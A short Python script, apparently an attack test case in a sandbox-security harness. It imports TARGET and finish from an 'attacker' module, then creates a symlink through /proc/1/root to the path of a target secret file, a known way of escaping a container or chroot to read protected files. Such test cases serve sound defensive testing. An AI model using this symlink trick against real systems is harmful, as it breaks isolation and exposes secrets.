import os

from attacker import TARGET, finish

os.symlink(f"/proc/1/root{TARGET['secret']}", "link")
finish()
